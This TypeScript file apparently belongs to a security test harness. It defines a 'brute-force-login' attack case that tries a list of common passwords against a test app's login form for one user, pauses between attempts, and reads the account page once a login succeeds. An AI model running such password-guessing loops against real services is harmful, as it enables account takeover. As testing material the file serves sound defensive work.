import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { attacker, logIn } from '../../attack/attacker.ts'
import { commonPasswords } from '../../attack/common-passwords.ts'

/** Guesses a customer's password from a list. */
export const bruteForceLogin: Attack = defineAttack({
  id: 'brute-force-login',
  class: 'brute-force',
  title: "Guesses a customer's password from a list",
  cwe: 307,
  capec: 49,
  technique: 'T1110.001',
  preconditions: [],
  slow: true,

  steps: async ({ visitor, pause }) => {
    for (const password of commonPasswords) {
      const answer = await visitor.form('/login', { user: 'anna', password })
      if (answer.status === 303) return (await visitor.get('/account')).text
      await pause(60)
    }
    return ''
  },
  oracle: (text) => text.includes('Anna Lindqvist'),
  twin: async ({ visitor }) => {
    await visitor.form('/login', { user: attacker.user, password: 'trail-mux' })
    return logIn(visitor)
  },
})
